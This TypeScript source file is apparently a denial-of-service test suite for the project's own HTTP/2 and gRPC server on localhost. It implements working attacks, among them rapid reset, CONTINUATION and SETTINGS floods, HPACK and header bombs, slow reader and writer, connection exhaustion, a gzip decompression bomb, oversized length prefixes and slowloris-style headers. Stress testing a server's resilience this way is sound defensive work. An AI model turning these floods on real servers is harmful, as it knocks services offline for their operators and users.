// The attacks by frames and slow clients: each runs until its time is up, from its own address.
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { FrameFlag, FrameType, hpack, type RawHttp2, rawFrame } from "#testing/raw-http2.ts";
import { type AttackPlace, flood, headersFor, type Kind, open, streamId, times, VOLLEY } from "./flood.ts";
import { hpackBomb } from "./hpack-bomb.ts";
import { stallHandshakes } from "./stalled-handshakes.ts";

const CANCEL = Buffer.from([0, 0, 0, 8]);
const NOTHING: Buffer = Buffer.alloc(0);
const REFUSED_WITHIN_MS = 10_000;

const idle = (): Promise<void> => Promise.resolve();
const openStream =
  (place: AttackPlace) =>
  (raw: RawHttp2): Promise<void> =>
    raw.send(FrameType.HEADERS, FrameFlag.END_HEADERS, 1, headersFor(place, "UploadFile"));

const rapidReset: Kind = (place) =>
  flood(place, idle, (turn) =>
    times(VOLLEY, (at) => {
      const id = streamId(turn, at);
      const headers = rawFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headersFor(place, "UploadFile"));
      return Buffer.concat([headers, rawFrame(FrameType.RST_STREAM, 0, id, CANCEL)]);
    }),
  );

const madeReset: Kind = (place) =>
  flood(place, idle, (turn) =>
    times(VOLLEY, (at) => {
      const id = streamId(turn, at);
      const headers = rawFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headersFor(place, "UploadFile"));
      return Buffer.concat([headers, rawFrame(FrameType.WINDOW_UPDATE, 0, id, Buffer.alloc(4))]);
    }),
  );

const continuation: Kind = (place) =>
  flood(
    place,
    (raw) => raw.send(FrameType.HEADERS, 0, 1, headersFor(place, "UploadFile")),
    (turn) =>
      times(VOLLEY, (at) =>
        rawFrame(FrameType.CONTINUATION, 0, 1, hpack([[`x-${turn}-${at}`, "a".repeat(200)]])),
      ),
  );

const framesOf =
  (type: number, id: number, payload: Buffer): Kind =>
  (place) => {
    const many = times(VOLLEY, () => rawFrame(type, 0, id, payload));
    return flood(place, openStream(place), () => many);
  };

const headerBomb: Kind = (place) => {
  const bomb = headersFor(
    place,
    "GetAttr",
    Array.from({ length: 80 }, (_, at) => [`x-${at}`, "b".repeat(180)]),
  );
  return flood(place, idle, (turn) =>
    times(VOLLEY, (at) =>
      rawFrame(FrameType.HEADERS, FrameFlag.END_HEADERS | FrameFlag.END_STREAM, streamId(turn, at), bomb),
    ),
  );
};

/** Downloads of a large file with windows as wide as they may be, and a socket that is never read. */
const slowReader: Kind = async (place) => {
  const request = Buffer.concat([Buffer.from([0x12, place.bigFile.length]), Buffer.from(place.bigFile)]);
  const raws = await Promise.all(Array.from({ length: 4 }, () => open(place)));
  let strokes = 0;
  for (const raw of raws) {
    await raw.send(FrameType.SETTINGS, 0, 0, Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff]));
    await raw.send(FrameType.WINDOW_UPDATE, 0, 0, Buffer.from([0x7f, 0, 0, 0]));
    raw.stopReading();
    for (let id = 1; id < 40; id += 2) {
      await raw.send(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headersFor(place, "DownloadFile"));
      await raw.send(FrameType.DATA, FrameFlag.END_STREAM, id, framed(request));
      strokes++;
    }
  }
  await untilOver(place);
  for (const raw of raws) raw.close();
  return { strokes };
};

const zeroWindow: Kind = async (place) => {
  const raw = await open(place);
  await raw.send(FrameType.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
  let strokes = 0;
  for (let id = 1; !place.isOver() && !raw.isClosed; id += 2) {
    await raw.send(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headersFor(place, "ReadFile"));
    const request = Buffer.concat([
      Buffer.from([0x12, place.bigFile.length]),
      Buffer.from(place.bigFile),
      Buffer.from([0x20, 0x80, 0x89, 0x7a]),
    ]);
    await raw.send(FrameType.DATA, FrameFlag.END_STREAM, id, framed(request));
    strokes++;
    if (strokes % 50 === 0) await sleep(5);
  }
  raw.close();
  return { strokes };
};

const slowWriter: Kind = async (place) => {
  const raws = await Promise.all(Array.from({ length: 4 }, () => open(place)));
  let strokes = 0;
  for (const raw of raws)
    for (let id = 1; id < 100; id += 2)
      await raw.send(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headersFor(place, "UploadFile"));
  while (!place.isOver()) {
    for (const raw of raws)
      for (let id = 1; id < 100; id += 2) {
        await raw.send(FrameType.DATA, 0, id, Buffer.from([0]));
        strokes++;
      }
    await sleep(20);
  }
  for (const raw of raws) raw.close();
  return { strokes };
};

const manyStreams: Kind = (place) =>
  flood(place, idle, (turn) =>
    times(VOLLEY, (at) =>
      rawFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, streamId(turn, at), headersFor(place, "UploadFile")),
    ),
  );

const manyConnections: Kind = async (place) => {
  let strokes = 0;
  while (!place.isOver()) {
    const raws = await Promise.all(Array.from({ length: 250 }, () => open(place).catch(() => undefined)));
    strokes += raws.length;
    await sleep(20);
    for (const raw of raws) raw?.close();
  }
  return { strokes };
};

/** Begins calls and leaves them on a half-closed connection. */
const halfClosed: Kind = async (place) => {
  let strokes = 0;
  while (!place.isOver()) {
    const socket = connect({
      port: place.port,
      host: "127.0.0.1",
      localAddress: place.from,
      allowHalfOpen: true,
    });
    socket.on("error", () => undefined);
    socket.resume();
    await once(socket, "connect").catch(() => undefined);
    const greeting = Buffer.concat([
      Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
      rawFrame(FrameType.SETTINGS, 0, 0, NOTHING),
    ]);
    const calls = times(50, (at) =>
      rawFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, at * 2 + 1, headersFor(place, "UploadFile")),
    );
    socket.end(Buffer.concat([greeting, calls]));
    strokes += 50;
    await sleep(5);
    socket.destroy();
  }
  return { strokes };
};

/** Sends trailers in mid-stream, twice, and with pseudo-headers. */
const trailers: Kind = (place) =>
  flood(place, idle, (turn) =>
    times(VOLLEY / 4, (at) => {
      const id = streamId(turn, at);
      return Buffer.concat([
        rawFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headersFor(place, "UploadFile")),
        rawFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, id, hpack([["x-trailer", "1"]])),
        rawFrame(
          FrameType.HEADERS,
          FrameFlag.END_HEADERS | FrameFlag.END_STREAM,
          id,
          hpack([[":path", "/"]]),
        ),
      ]);
    }),
  );

/** Four times what a message may unpack to. */
const PACKED_BOMB: Buffer = gzipSync(Buffer.alloc(32 * 1_048_576), { level: 1 });

const gzipBomb: Kind = async (place) => {
  const bomb = framed(PACKED_BOMB, 1);
  let strokes = 0;
  while (!place.isOver()) {
    const raw = await open(place);
    for (let id = 1; id < 60 && !raw.isClosed && !place.isOver(); id += 2) {
      const headers = headersFor(place, "GetAttr", [["grpc-encoding", "gzip"]]);
      await raw.send(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headers);
      for (let at = 0; at < bomb.length; at += 16_000) {
        const last = at + 16_000 >= bomb.length;
        await raw.send(FrameType.DATA, last ? FrameFlag.END_STREAM : 0, id, bomb.subarray(at, at + 16_000));
      }
      strokes++;
      await sleep(2);
    }
    raw.close();
  }
  return { strokes };
};

/** Sends a message whose prefix announces far too large a length: refused before it is there. */
const lyingLength: Kind = async (place) => {
  let strokes = 0;
  while (!place.isOver()) {
    const raw = await open(place);
    for (const [id, method] of [
      [1, "GetAttr"],
      [3, "UploadFile"],
      [5, "CreateFile"],
    ] as const) {
      await raw.send(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headersFor(place, method));
      await raw.send(
        FrameType.DATA,
        0,
        id,
        Buffer.concat([Buffer.from([0, 0x3f, 0xff, 0xff, 0xff]), Buffer.alloc(1_000)]),
      );
      const refused = raw.frame((frame) => frame.streamId === id && frame.type === FrameType.HEADERS);
      const late = sleep(REFUSED_WITHIN_MS).then(() => "late" as const);
      if ((await Promise.race([refused, late])) === "late") {
        raw.close();
        return {
          strokes,
          complaint: `${method} waits for a message of 1 GiB instead of refusing its prefix`,
        };
      }
      strokes++;
    }
    raw.close();
  }
  return { strokes };
};

/** Sends request headers to the console that never end. */
const slowHeads: Kind = async (place) => {
  const sockets: Socket[] = [];
  let strokes = 0;
  for (let count = 0; count < 150; count++) {
    const socket = connect({ port: place.consolePort, host: "127.0.0.1", localAddress: place.from });
    socket.on("error", () => undefined);
    socket.write("GET /api/cluster HTTP/1.1\r\nHost: x\r\n");
    sockets.push(socket);
  }
  while (!place.isOver()) {
    for (const socket of sockets) if (socket.writable) socket.write("X-A: b\r\n");
    strokes += sockets.length;
    await sleep(50);
  }
  for (const socket of sockets) socket.destroy();
  return { strokes };
};

function framed(body: Buffer, flag = 0): Buffer {
  const head = Buffer.alloc(5);
  head[0] = flag;
  head.writeUInt32BE(body.length, 1);
  return Buffer.concat([head, body]);
}

async function untilOver(place: AttackPlace): Promise<void> {
  while (!place.isOver()) await sleep(20);
}

/** Every kind by its name. */
export const ATTACKS: Readonly<Record<string, Kind>> = {
  "rapid reset": rapidReset,
  "resets made by the server": madeReset,
  "CONTINUATION flood": continuation,
  "SETTINGS flood": framesOf(FrameType.SETTINGS, 0, NOTHING),
  "PING flood": framesOf(FrameType.PING, 0, Buffer.alloc(8)),
  "empty DATA flood": framesOf(FrameType.DATA, 1, NOTHING),
  "WINDOW_UPDATE flood": framesOf(FrameType.WINDOW_UPDATE, 0, Buffer.from([0, 0, 0, 1])),
  "header bomb": headerBomb,
  "HPACK bomb": hpackBomb,
  "slow reader": slowReader,
  "zero window": zeroWindow,
  "slow writer": slowWriter,
  "60,000 streams": manyStreams,
  "thousands of connections": manyConnections,
  "TLS handshake stall": stallHandshakes,
  "half-closed connections": halfClosed,
  "trailers abuse": trailers,
  "gzip bomb": gzipBomb,
  "lying length": lyingLength,
  "slow heads at the console": slowHeads,
};
